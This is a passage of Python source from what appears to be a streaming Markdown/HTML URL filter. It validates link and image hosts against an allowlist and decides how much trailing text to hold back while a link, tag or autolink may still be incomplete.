        for host_port in {authority.rpartition("@")[2], authority.partition("@")[2] or authority}:
            if host_port.startswith("["):
                close = host_port.find("]")
                if close < 0:
                    return False
                host, port = host_port[: close + 1], host_port[close + 1 :]
                if port[:1] not in ("", ":"):
                    return False
                port = port[1:]
            else:
                host, _, port = host_port.partition(":")
            if port and not (port.isascii() and port.isdigit() and int(port) <= 65535):
                return False
            normalized = _normalize_host(host)
            if normalized is None or not self._host_allowed(normalized):
                return False
        return True

    def _host_allowed(self, host: str) -> bool:
        return host in self._exact or any(host.endswith(suffix) for suffix in self._suffixes)

    # ---------------------------------------------------------------------------------------------- hold

    def hold(self, text: str) -> int:
        # Every check looks forward from a candidate start only, so the last max_span - 1 characters suffice;
        # a Markdown construct still open starts within its own bounds of the end.
        window = text[max(0, len(text) - (self.max_span - 1)) :]
        n = len(window)
        index = _Index(window)
        markdown_from = n - (TEXT_MAX + TAIL_MAX + 2)
        candidates = list(index.positions("<"))
        for char in "[]!":
            positions = index.positions(char)
            candidates += positions[bisect_left(positions, markdown_from) :]
        if self._bare:
            candidates += self._bare_candidates(window)
        for position in sorted(candidates):
            if self._open_at(index, position):
                return n - position
        return 0

    def _bare_candidates(self, window: str) -> list[int]:
        found = [m.start() for m in self._bare_re.finditer(window)]
        n = len(window)
        for size in range(min(n, self._longest_anchor - 1), 0, -1):  # an anchor cut off at the end
            tail = window[n - size :].lower()
            if any(a.startswith(tail) for a in self._bare_anchors):
                found.append(n - size)
                break
        return found

    def _open_at(self, index: _Index, s: int) -> bool:
        """Could a finding start at `s` and still change or grow once more text arrives?"""
        text, n = index.text, index.n
        char = text[s]
        if char == "[":
            return self._opener_open(index, s)
        if char == "!":
            return s == n - 1 or (text[s + 1] == "[" and self._opener_open(index, s + 1))
        if char == "]":
            return self._tail_open(index, s)
        if char == "<":
            return self._angle_open(index, s)
        return self._bare_open(index, s)

    def _opener_open(self, index: _Index, s: int) -> bool:
        close = index.pairs().get(s)
        if close is None:
            return index.n - s - 1 <= TEXT_MAX
        return close - s - 1 <= TEXT_MAX and self._tail_open(index, close)

    def _angle_open(self, index: _Index, s: int) -> bool:
        """Open as a tag or autolink, or as a lone `<` before something still open (see `find`): in a run of
        `<`, each is open if one after it is, worked out once per run from its end."""
        memo = index.angle_memo
        if s not in memo:
            text, n, end = index.text, index.n, s
            while end + 1 < n and text[end + 1] == "<":
                end += 1
            after = end + 1 < n and text[end + 1] in "[!]" and self._open_at(index, end + 1)
            for k in range(end, s - 1, -1):
                after = memo[k] = after or self._angle_own_open(index, k)
        return memo[s]

    def _angle_own_open(self, index: _Index, s: int) -> bool:
        text, n = index.text, index.n
        if n - s == 1:
            return True
        if not self._images_only:
            end = index.run_end("autolink", s + 1)
            if (end == n and end - s - 1 <= URL_MAX and _AUTOLINK_PRE.fullmatch(text[s:])) or (
                    end == n - 1 and text[end] == ">" and _AUTOLINK_START.match(text, s)):
                return True
        if not (text[s + 1].isascii() and text[s + 1].isalpha()):
            return False
        close = index.tag_end(s)
        if close is None or close + 1 - s > TAG_MAX:
            return n - s <= TAG_MAX
        g = close + 1
        if g == n:
            return True
        name, unsafe = self._tag_unsafe(text[s:g])
        if not unsafe:
            return False
        if name in _CONTAINERS:
            bound = s + CONTAINER_MAX
        elif name == "a":
            bound = g + TEXT_MAX
        else:
            return False
        closing = index.closing(name, g, bound)
        return closing[1] == n if closing is not None else n < bound

    def _tail_open(self, index: _Index, m: int) -> bool:
        text, n = index.text, index.n
        if n - m == 1:
            return True
        if n - m > TAIL_MAX or text[m + 1] not in "(:":
            return False
        return bool((_INLINE_PRE if text[m + 1] == "(" else _DEF_PRE).fullmatch(text[m:]))

    def _bare_open(self, index: _Index, q: int) -> bool:
        if index.n - q < self._longest_anchor:  # the anchor itself may still be arriving
            rest = index.text[q:].lower()
            if any(a.startswith(rest) for a in self._bare_anchors):
                return True
        return index.run_end("url", q) == index.n and index.n - q <= URL_MAX


_STRIP = str.maketrans("", "", "[]<>")
_C0_AND_SPACE = "".join(map(chr, range(0x21)))
_CLOSE_RE = {name: compile_re2(f"(?i)</{name}[\\s/>]") for name in _CONTAINERS | {"a"}}


def _destination(regex, match) -> tuple[str, tuple[int, int]]:  # type: ignore[no-untyped-def]
    """The destination of a matched `_INLINE_RE` / `_DEF_RE` (without `<>`), and its span."""
    pointy = regex.groupindex["pointy"]
    if match.group(pointy) is not None:
        start, end = match.span(pointy)
        return match.group(pointy)[1:-1], (start + 1, end - 1)
    raw = regex.groupindex["raw"]
    return match.group(raw), match.span(raw)


def _may_change(text: str) -> bool:
    """Could a finding start inside `text` (a destination, a tag) and change it when replaced? Findings
    start at `[`, `]` or `<` and a letter (bare URLs cannot change a host); an IPv6 literal's brackets start
    none."""
    if "[" in text or "]" in text:
        if "](" in text or "]:" in text:
            return True
        stripped = _IPV6_LITERAL.sub("", text)
        if "[" in stripped or "]" in stripped:
            return True
    at = text.find("<")
    while at >= 0:
        if at + 1 < len(text) and text[at + 1].isascii() and text[at + 1].isalpha():
            return True
        at = text.find("<", at + 1)
    return False


def _attr_urls(name: str, value: str) -> list[str]:
    if name in _LIST_ATTRS:
        return [part.split()[0] if part.split() else "" for part in value.split(",")]
    if name in _SPACE_LIST_ATTRS:
        return value.split() or [""]
    if name == "content":  # <meta http-equiv=refresh content="0; url=...">
        lowered = value.lower()
        return [value[lowered.index("url=") + 4 :].strip("'\" ")] if "url=" in lowered else []
    return [value]


def _until(text: str, stops: str) -> str:
    for index, char in enumerate(text):
        if char in stops:
            return text[:index]
    return text


def _trim_url(run: str) -> str:
    """GitHub's autolink end: trailing punctuation and unbalanced closing parentheses are not part of it."""
    while run:
        if run[-1] in _TRIM_TRAILING or run[-1] == ")" and run.count(")") > run.count("("):
            run = run[:-1]
        else:
            break
    return run
